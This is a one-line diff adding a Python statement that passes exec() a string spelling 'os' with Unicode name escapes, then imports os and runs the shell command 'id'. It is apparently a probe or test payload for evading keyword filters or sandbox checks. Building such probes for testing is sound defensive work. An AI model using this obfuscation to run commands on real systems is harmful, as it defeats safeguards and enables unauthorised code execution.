@@ -1,0 +1,1 @@
+exec("import \N{latin small letter o}s\n\N{latin small letter o}s.system('id')")
